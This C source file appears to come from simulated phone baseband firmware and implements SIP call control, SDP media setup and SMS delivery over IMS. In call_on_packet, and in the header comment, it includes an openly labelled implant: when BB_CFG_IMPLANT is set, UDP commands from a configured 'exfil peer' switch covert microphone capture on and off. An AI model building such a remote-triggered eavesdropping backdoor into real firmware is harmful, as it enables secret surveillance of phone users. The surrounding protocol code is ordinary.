/*
 * call.c - call control in the firmware: the phone's SIP endpoint (UAS) for
 * incoming calls (RFC 3261, UDP, text) and the RIL side of the mailbox.
 *
 * Incoming: an INVITE from the IMS core -> 100 Trying, 180 Ringing and
 * RING to the AP (payload: the caller's user part). ANSWER from the AP ->
 * 200 OK with an SDP answer (G.722, payload type 9); the peer's ACK ->
 * media starts, CALL_STATE(ACTIVE). HANGUP while ringing -> 603 Decline;
 * while active -> BYE. A BYE from the network -> 200 OK. Responses copy
 * Via, From, To (adding our tag), Call-ID and CSeq from the request, as
 * RFC 3261 section 8.2.6 asks.
 *
 * Short messages (3GPP TS 24.341): a MESSAGE from the IMS core whose
 * body is application/vnd.3gpp.sms is decoded (sms.c) and answered 200
 * OK, and the AP gets SMS (arg: RP-MR; payload: originator NUL addressee
 * NUL user data, the addressee being the To user, so the AP can tell
 * which of its identities the message is for). Another body gets 415,
 * an undecodable one 400. A MESSAGE keeps its own copy of the request's
 * headers, so one arriving during a call leaves the call's dialog alone.
 * The delivery report (RP-ACK in a MESSAGE of our own) is not sent.
 *
 * A CANCEL from the network while ringing -> 200 OK to the CANCEL, 487
 * Request Terminated to the INVITE, CALL_STATE(IDLE) to the AP.
 *
 * Outgoing (UAC): DIAL from the AP (payload: the number) -> INVITE with
 * an SDP offer (G.722) to the IMS core of the configuration block,
 * CALL_STATE(DIALING); 180 -> CALL_STATE(ALERTING); 200 OK -> ACK, media
 * to the SDP answer's address, CALL_STATE(ACTIVE); a final failure (487
 * after our CANCEL, 486, 603, ...) -> ACK in the INVITE's transaction,
 * CALL_STATE(IDLE). HANGUP before the answer -> CANCEL (RFC 3261 9.1);
 * once active -> BYE. A DIAL while a call is under way gets
 * CALL_STATE(FAILED).
 *
 * Firmware built with BB_CFG_IMPLANT also takes commands from the exfil
 * peer (bb_abi.h) that turn its hostile microphone capture on and off.
 */
#include "fw.h"

#define SIP_PORT 5060
#define RTP_PORT 49152
#define HDR_MAX 200

enum {
    CALL_IDLE,
    CALL_RINGING,
    CALL_ANSWERED,
    CALL_ACTIVE,
    CALL_DIALING,    /* our INVITE is out, no final response */
    CALL_CANCELLING, /* ... and our CANCEL too */
};

/* What a response copies from its request (RFC 3261 8.2.6), the tag it
 * adds to To, and where it goes. */
typedef struct Req {
    char via[HDR_MAX], from[HDR_MAX], to[HDR_MAX];
    char callid[HDR_MAX], cseq[HDR_MAX];
    uint32_t tag;
    uint32_t addr;
    uint16_t port;
} Req;

/* respond() flags */
#define R_TAG 1     /* add our To tag */
#define R_CONTACT 2 /* a Contact (dialog-forming responses) */
#define R_SDP 4     /* the SDP answer */

static uint32_t state = CALL_IDLE;
static uint32_t call_id, next_call_id = 1, bye_cseq, branch_n;
static uint32_t pages, messages;
static uint32_t media_addr;
static uint16_t media_port;
static Req dlg;                 /* the call's INVITE (and a BYE's headers) */
static uint32_t outgoing;       /* the call under way is ours (UAC) */
static uint32_t alerted;        /* ... and its 180 came */
static uint32_t local_cseq;     /* ... our CSeq numbers */
static char remote_to[HDR_MAX]; /* ... the far end's To, with its tag */
static Req msg_req;             /* the last MESSAGE */
static char caller[40];
static uint8_t out[FW_IP_HDR + FW_UDP_HDR + 1400];
static uint8_t sms_msg[HDR_MAX * 2 + SMS_UD_MAX];

/* ---- text ---------------------------------------------------------------- */

typedef struct Text {
    char *p;
    uint32_t len, cap;
} Text;

static void put_s(Text *t, const char *s)
{
    while (*s && t->len < t->cap)
        t->p[t->len++] = *s++;
}

static void put_u(Text *t, uint32_t v)
{
    char d[10];
    int n = 0;
    do {
        d[n++] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    while (n && t->len < t->cap)
        t->p[t->len++] = d[--n];
}

static void put_ip(Text *t, uint32_t a)
{
    for (int i = 3; i >= 0; i--) {
        put_u(t, (a >> (8 * i)) & 0xff);
        if (i)
            put_s(t, ".");
    }
}

/* Copies the value of header `name` (e.g. "Via") from msg into dst. */
static int header(const char *msg, uint32_t len, const char *name, char *dst)
{
    uint32_t nl = (uint32_t)fw_strlen(name);
    for (uint32_t i = 0; i + nl + 1 < len; i++) {
        if ((i == 0 || msg[i - 1] == '\n') &&
            fw_memcmp(msg + i, name, nl) == 0 && msg[i + nl] == ':') {
            uint32_t j = i + nl + 1, k = 0;
            while (j < len && msg[j] == ' ')
                j++;
            while (j < len && msg[j] != '\r' && msg[j] != '\n' &&
                   k + 1 < HDR_MAX)
                dst[k++] = msg[j++];
            dst[k] = 0;
            return 0;
        }
    }
    dst[0] = 0;
    return -1;
}

static uint32_t parse_u(const char *s, const char **end)
{
    uint32_t v = 0;
    while (*s >= '0' && *s <= '9')
        v = v * 10 + (uint32_t)(*s++ - '0');
    *end = s;
    return v;
}

/* The SDP's "c=IN IP4 a.b.c.d" and "m=audio PORT". */
static void parse_sdp(const char *msg, uint32_t len)
{
    for (uint32_t i = 0; i + 12 < len; i++) {
        if (msg[i] != '\n')
            continue;
        const char *s = msg + i + 1;
        const char *e;
        if (fw_memcmp(s, "c=IN IP4 ", 9) == 0) {
            s += 9;
            uint32_t a = 0;
            for (int k = 0; k < 4; k++) {
                a = a << 8 | (parse_u(s, &e) & 0xff);
                s = e + 1;
            }
            media_addr = a;
        } else if (fw_memcmp(s, "m=audio ", 8) == 0) {
            media_port = (uint16_t)parse_u(s + 8, &e);
        }
    }
}

/* The user part of "<sip:USER@domain>;tag=..." into dst (cap bytes). */
static uint32_t user_of(const char *s, char *dst, uint32_t cap)
{
    uint32_t k = 0;
    while (*s && fw_memcmp(s, "sip:", 4) != 0)
        s++;
    if (*s)
        s += 4;
    while (*s && *s != '@' && *s != '>' && k + 1 < cap)
        dst[k++] = *s++;
    dst[k] = 0;
    return k;
}

/* Via, From, To, Call-ID and CSeq of request m, sent from addr:port. */
static void take_request(Req *r, const char *m, uint32_t len, uint32_t addr,
                         uint16_t port)
{
    header(m, len, "Via", r->via);
    header(m, len, "From", r->from);
    header(m, len, "To", r->to);
    header(m, len, "Call-ID", r->callid);
    header(m, len, "CSeq", r->cseq);
    r->addr = addr;
    r->port = port;
}

/* ---- sending ------------------------------------------------------------- */

static Text start(void)
{
    return (Text){(char *)out + FW_IP_HDR + FW_UDP_HDR, 0, 1400};
}

static void send_sip(Text *t, uint32_t addr, uint16_t port)
{
    net_send_udp(out, fw_config()->phone_addr, SIP_PORT, addr, port, 24,
                 t->len);
}

static void put_to_tagged(Text *t, const Req *r)
{
    put_s(t, r->to);
    put_s(t, ";tag=bb");
    put_u(t, r->tag);
}

/* Content-Type, Content-Length and our SDP (G.722 at RTP_PORT): the
 * offer of an outgoing call and the answer to an incoming one. */
static void put_sdp(Text *t)
{
    char body[256];
    Text b = {body, 0, sizeof body};
    put_s(&b, "v=0\r\no=- ");
    put_u(&b, call_id);
    put_s(&b, " ");
    put_u(&b, call_id);
    put_s(&b, " IN IP4 ");
    put_ip(&b, fw_config()->phone_addr);
    put_s(&b, "\r\ns=-\r\nc=IN IP4 ");
    put_ip(&b, fw_config()->phone_addr);
    put_s(&b, "\r\nt=0 0\r\nm=audio ");
    put_u(&b, RTP_PORT);
    put_s(&b, " RTP/AVP 9\r\na=rtpmap:9 G722/8000\r\na=ptime:20\r\n"
              "a=sendrecv\r\n");
    put_s(t, "Content-Type: application/sdp\r\nContent-Length: ");
    put_u(t, b.len);
    put_s(t, "\r\n\r\n");
    for (uint32_t i = 0; i < b.len && t->len < t->cap; i++)
        t->p[t->len++] = body[i];
}

static void respond(const Req *r, const char *status, uint32_t flags)
{
    Text t = start();
    put_s(&t, "SIP/2.0 ");
    put_s(&t, status);
    put_s(&t, "\r\nVia: ");
    put_s(&t, r->via);
    put_s(&t, "\r\nFrom: ");
    put_s(&t, r->from);
    put_s(&t, "\r\nTo: ");
    if (flags & R_TAG)
        put_to_tagged(&t, r);
    else
        put_s(&t, r->to);
    put_s(&t, "\r\nCall-ID: ");
    put_s(&t, r->callid);
    put_s(&t, "\r\nCSeq: ");
    put_s(&t, r->cseq);
    put_s(&t, "\r\n");
    if (flags & R_CONTACT) {
        put_s(&t, "Contact: <sip:phone@");
        put_ip(&t, fw_config()->phone_addr);
        put_s(&t, ":5060>\r\n");
    }
    if (!(flags & R_SDP)) {
        put_s(&t, "Content-Length: 0\r\n\r\n");
        send_sip(&t, r->addr, r->port);
        return;
    }
    put_sdp(&t);
    send_sip(&t, r->addr, r->port);
}

/* "METHOD sip:number@ims:5060 SIP/2.0" */
static void put_request_line(Text *t, const char *method)
{
    put_s(t, method);
    put_s(t, " sip:");
    put_s(t, caller);
    put_s(t, "@");
    put_ip(t, dlg.addr);
    put_s(t, ":5060 SIP/2.0\r\n");
}

/* A Via of ours with a fresh branch into dst. */
static void new_via(char *dst)
{
    Text v = {dst, 0, HDR_MAX - 1};
    put_s(&v, "SIP/2.0/UDP ");
    put_ip(&v, fw_config()->phone_addr);
    put_s(&v, ":5060;branch=z9hG4bKbb");
    put_u(&v, ++branch_n);
    dst[v.len] = 0;
}

static void send_bye(void)
{
    char via[HDR_MAX];
    new_via(via);
    Text t = start();
    put_request_line(&t, "BYE");
    put_s(&t, "Via: ");
    put_s(&t, via);
    put_s(&t, "\r\nMax-Forwards: 70\r\nFrom: ");
    if (outgoing)
        put_s(&t, dlg.from);
    else
        put_to_tagged(&t, &dlg);
    put_s(&t, "\r\nTo: ");
    put_s(&t, outgoing ? remote_to : dlg.from);
    put_s(&t, "\r\nCall-ID: ");
    put_s(&t, dlg.callid);
    put_s(&t, "\r\nCSeq: ");
    put_u(&t, outgoing ? ++local_cseq : ++bye_cseq);
    put_s(&t, " BYE\r\nContent-Length: 0\r\n\r\n");
    send_sip(&t, dlg.addr, dlg.port);
}

/* Requests in the INVITE's client transaction or dialog: CANCEL (the
 * INVITE's Via and CSeq number, its To without tag), the ACK of a
 * failure (the same, To with the response's tag) and the ACK of a 200
 * (a new branch). */
static void send_uac(const char *method, const char *via, const char *to)
{
    Text t = start();
    put_request_line(&t, method);
    put_s(&t, "Via: ");
    put_s(&t, via);
    put_s(&t, "\r\nMax-Forwards: 70\r\nFrom: ");
    put_s(&t, dlg.from);
    put_s(&t, "\r\nTo: ");
    put_s(&t, to);
    put_s(&t, "\r\nCall-ID: ");
    put_s(&t, dlg.callid);
    put_s(&t, "\r\nCSeq: ");
    put_u(&t, local_cseq);
    put_s(&t, " ");
    put_s(&t, method);
    put_s(&t, "\r\nContent-Length: 0\r\n\r\n");
    send_sip(&t, dlg.addr, dlg.port);
}

/* DIAL: the INVITE to number through the IMS core. */
static void dial(const uint8_t *number, uint32_t n)
{
    uint32_t k = 0;
    for (uint32_t i = 0; i < n && k + 1 < sizeof caller; i++)
        if ((number[i] >= '0' && number[i] <= '9') || number[i] == '+')
            caller[k++] = (char)number[i];
    caller[k] = 0;
    call_id = next_call_id++;
    outgoing = 1;
    alerted = 0;
    local_cseq = 1;
    remote_to[0] = 0;
    dlg.addr = fw_config()->ims_addr;
    dlg.port = SIP_PORT;
    dlg.tag = call_id;
    new_via(dlg.via);
    Text h = {dlg.from, 0, HDR_MAX - 1};
    put_s(&h, "<sip:phone@ims.example.net>;tag=bb");
    put_u(&h, call_id);
    dlg.from[h.len] = 0;
    h = (Text){dlg.to, 0, HDR_MAX - 1};
    put_s(&h, "<sip:");
    put_s(&h, caller);
    put_s(&h, "@ims.example.net>");
    dlg.to[h.len] = 0;
    h = (Text){dlg.callid, 0, HDR_MAX - 1};
    put_s(&h, "bb");
    put_u(&h, call_id);
    put_s(&h, "-");
    put_u(&h, (uint32_t)fw_now_ns());
    put_s(&h, "@");
    put_ip(&h, fw_config()->phone_addr);
    dlg.callid[h.len] = 0;
    Text t = start();
    put_request_line(&t, "INVITE");
    put_s(&t, "Via: ");
    put_s(&t, dlg.via);
    put_s(&t, "\r\nMax-Forwards: 70\r\nFrom: ");
    put_s(&t, dlg.from);
    put_s(&t, "\r\nTo: ");
    put_s(&t, dlg.to);
    put_s(&t, "\r\nCall-ID: ");
    put_s(&t, dlg.callid);
    put_s(&t, "\r\nCSeq: ");
    put_u(&t, local_cseq);
    put_s(&t, " INVITE\r\nContact: <sip:phone@");
    put_ip(&t, fw_config()->phone_addr);
    put_s(&t, ":5060>\r\nAllow: INVITE, ACK, CANCEL, BYE\r\n");
    put_sdp(&t);
    send_sip(&t, dlg.addr, dlg.port);
    state = CALL_DIALING;
    mbox_send(HS_BBMSG_CALL_STATE, call_id, HS_CALL_ST_DIALING, 0, 0);
}

static void to_idle(void)
{
    if (state == CALL_ACTIVE)
        media_call_stop();
    mbox_send(HS_BBMSG_CALL_STATE, call_id, HS_CALL_ST_IDLE, 0, 0);
    state = CALL_IDLE;
    outgoing = 0;
}

/* ---- events -------------------------------------------------------------- */

void call_on_ap_message(const uint8_t *msg, uint32_t len)
{
    uint32_t type = msg[HS_BBMSG_OFF_TYPE];
    uint32_t id = fw_le32(msg + HS_BBMSG_OFF_CALL);
    switch (type) {
    case HS_BBMSG_ANSWER:
        if (state == CALL_RINGING && id == call_id) {
            respond(&dlg, "200 OK", R_TAG | R_CONTACT | R_SDP);
            state = CALL_ANSWERED;
        } else {
            mbox_send(HS_BBMSG_CALL_STATE, id, HS_CALL_ST_FAILED, 0, 0);
        }
        break;
    case HS_BBMSG_HANGUP:
        if (state == CALL_RINGING || state == CALL_ANSWERED) {
            respond(&dlg, "603 Decline", R_TAG | R_CONTACT);
            to_idle();
        } else if (state == CALL_DIALING) {
            send_uac("CANCEL", dlg.via, dlg.to);
            state = CALL_CANCELLING;
        } else if (state == CALL_CANCELLING) {
            /* the CANCEL is out: the 487 ends the call */
        } else if (state == CALL_ACTIVE) {
            send_bye();
            to_idle();
        } else {
            mbox_send(HS_BBMSG_CALL_STATE, id, HS_CALL_ST_IDLE, 0, 0);
        }
        break;
    case HS_BBMSG_DIAL: {
        uint32_t n = fw_le32(msg + HS_BBMSG_OFF_PAYLOAD);
        if (state != CALL_IDLE || n == 0 || n > len - HS_BBMSG_HEADER_BYTES)
            mbox_send(HS_BBMSG_CALL_STATE, id, HS_CALL_ST_FAILED, 0, 0);
        else
            dial(msg + HS_BBMSG_HEADER_BYTES, n);
        break;
    }
    default:
        fw_log(BB_LOG_BAD_MSG);
        break;
    }
}

void call_on_page(uint32_t id)
{
    (void)id;
    pages++; /* the INVITE follows on the bearer the page brought up */
}

/* The body of message m (after the empty line), or NULL. */
static const uint8_t *body_of(const char *m, uint32_t len, uint32_t *blen)
{
    for (uint32_t i = 0; i + 4 <= len; i++)
        if (fw_memcmp(m + i, "\r\n\r\n", 4) == 0) {
            *blen = len - i - 4;
            return (const uint8_t *)m + i + 4;
        }
    return 0;
}

/* Copies s with its NUL into sms_msg at *n. */
static void put_z(uint32_t *n, const char *s)
{
    uint32_t k = (uint32_t)fw_strlen(s) + 1;
    memcpy(sms_msg + *n, s, k);
    *n += k;
}

/* A short message (TS 24.341 5.3.2.4): answered first, then to the AP. */
static void on_message(const char *m, uint32_t len, uint32_t src,
                       uint16_t sport)
{
    Req *r = &msg_req;
    take_request(r, m, len, src, sport);
    r->tag = 0x10000u + ++messages; /* apart from call ids */
    char type[HDR_MAX];
    header(m, len, "Content-Type", type);
    uint32_t blen = 0;
    const uint8_t *body = body_of(m, len, &blen);
    if (fw_strlen(type) != fw_strlen(SMS_CONTENT) ||
        fw_memcmp(type, SMS_CONTENT, fw_strlen(SMS_CONTENT)) != 0) {
        respond(r, "415 Unsupported Media Type", R_TAG);
        return;
    }
    FwSms sms;
    if (!body || sms_decode(body, blen, &sms) < 0) {
        respond(r, "400 Bad Request", R_TAG);
        return;
    }
    respond(r, "200 OK", R_TAG);
    char to[40];
    user_of(r->to, to, sizeof to);
    uint32_t n = 0;
    put_z(&n, sms.originator);
    put_z(&n, to);
    memcpy(sms_msg + n, sms.ud, sms.ud_len);
    n += sms.ud_len;
    mbox_send(HS_BBMSG_SMS, 0, sms.mr, sms_msg, n);
}

/* A response to our INVITE (outgoing calls). */
static void on_response(const char *m, uint32_t len)
{
    char cseq[HDR_MAX];
    header(m, len, "CSeq", cseq);
    uint32_t cl = (uint32_t)fw_strlen(cseq);
    if (!outgoing || (state != CALL_DIALING && state != CALL_CANCELLING) ||
        cl < 6 || fw_memcmp(cseq + cl - 6, "INVITE", 6) != 0)
        return;
    uint32_t status = (uint32_t)(m[8] - '0') * 100 +
                      (uint32_t)(m[9] - '0') * 10 + (uint32_t)(m[10] - '0');
    if (status < 200) {
        if ((status == 180 || status == 183) && !alerted &&
            state == CALL_DIALING) {
            alerted = 1;
            mbox_send(HS_BBMSG_CALL_STATE, call_id, HS_CALL_ST_ALERTING, 0, 0);
        }
        return;
    }
    header(m, len, "To", remote_to);
    if (status >= 300) {
        /* a failure (487 after our CANCEL, busy, declined): ACK in the
         * INVITE's transaction, same branch */
        send_uac("ACK", dlg.via, remote_to);
        to_idle();
        return;
    }
    char via[HDR_MAX];
    new_via(via);
    send_uac("ACK", via, remote_to);
    if (state == CALL_CANCELLING) {
        /* answered as we gave up: end the dialog at once */
        send_bye();
        to_idle();
        return;
    }
    parse_sdp(m, len);
    state = CALL_ACTIVE;
    media_call_start(media_addr, media_port, RTP_PORT);
    mbox_send(HS_BBMSG_CALL_STATE, call_id, HS_CALL_ST_ACTIVE, 0, 0);
}

static void on_sip(const char *m, uint32_t len, uint32_t src, uint16_t sport)
{
    if (len > 8 && fw_memcmp(m, "MESSAGE ", 8) == 0) {
        on_message(m, len, src, sport);
    } else if (len > 7 && fw_memcmp(m, "INVITE ", 7) == 0) {
        if (state != CALL_IDLE)
            return; /* busy: one call at a time (retransmissions too) */
        take_request(&dlg, m, len, src, sport);
        parse_sdp(m, len);
        user_of(dlg.from, caller, sizeof caller);
        call_id = next_call_id++;
        dlg.tag = call_id;
        respond(&dlg, "100 Trying", 0);
        respond(&dlg, "180 Ringing", R_TAG | R_CONTACT);
        state = CALL_RINGING;
        mbox_send(HS_BBMSG_RING, call_id, 0, caller,
                  (uint32_t)fw_strlen(caller));
        mbox_send(HS_BBMSG_CALL_STATE, call_id, HS_CALL_ST_RINGING, 0, 0);
    } else if (len > 4 && fw_memcmp(m, "ACK ", 4) == 0) {
        if (state == CALL_ANSWERED) {
            state = CALL_ACTIVE;
            media_call_start(media_addr, media_port, RTP_PORT);
            mbox_send(HS_BBMSG_CALL_STATE, call_id, HS_CALL_ST_ACTIVE, 0, 0);
        }
    } else if (len > 7 && fw_memcmp(m, "CANCEL ", 7) == 0) {
        /* the caller gives up: 200 to the CANCEL, 487 to the INVITE
         * while it is unanswered (RFC 3261 9.2) */
        Req c;
        take_request(&c, m, len, src, sport);
        c.tag = dlg.tag;
        respond(&c, "200 OK", R_TAG);
        if (state == CALL_RINGING && !outgoing) {
            respond(&dlg, "487 Request Terminated", R_TAG);
            to_idle();
        }
    } else if (len > 12 && fw_memcmp(m, "SIP/2.0 ", 8) == 0) {
        on_response(m, len);
    } else if (len > 4 && fw_memcmp(m, "BYE ", 4) == 0) {
        /* the 200 answers this BYE with its own headers */
        take_request(&dlg, m, len, src, sport);
        respond(&dlg, "200 OK", 0);
        if (state != CALL_IDLE)
            to_idle();
    }
    /* other responses (200 to our BYE or CANCEL) need no action */
}

int call_on_packet(const uint8_t *pkt, uint32_t len)
{
    if (len < FW_IP_HDR + FW_UDP_HDR || (pkt[0] >> 4) != 4 || pkt[9] != 17)
        return 0;
    uint32_t ihl = 4u * (pkt[0] & 15);
    if (len < ihl + FW_UDP_HDR)
        return 0;
    const uint8_t *udp = pkt + ihl;
    uint16_t sport = fw_be16(udp), dport = fw_be16(udp + 2);
    const uint8_t *payload = udp + FW_UDP_HDR;
    uint32_t plen = len - ihl - FW_UDP_HDR;
    const BbConfigBlock *cfg = fw_config();
    if ((cfg->flags & BB_CFG_IMPLANT) && fw_be32(pkt + 12) == cfg->exfil_addr &&
        sport == cfg->exfil_port && dport == cfg->exfil_port && plen >= 4) {
        /* the implant's command channel: the exfil peer switches the
         * hostile capture on and off over the air */
        if (fw_memcmp(payload, BB_IMPLANT_MIC_ON, 4) == 0)
            media_hostile(1);
        else if (fw_memcmp(payload, BB_IMPLANT_MIC_OFF, 4) == 0)
            media_hostile(0);
        return 1;
    }
    if (dport == SIP_PORT) {
        on_sip((const char *)payload, plen, fw_be32(pkt + 12), sport);
        return 1;
    }
    if (dport == RTP_PORT) {
        media_on_rtp(payload, plen);
        return 1;
    }
    return 0;
}
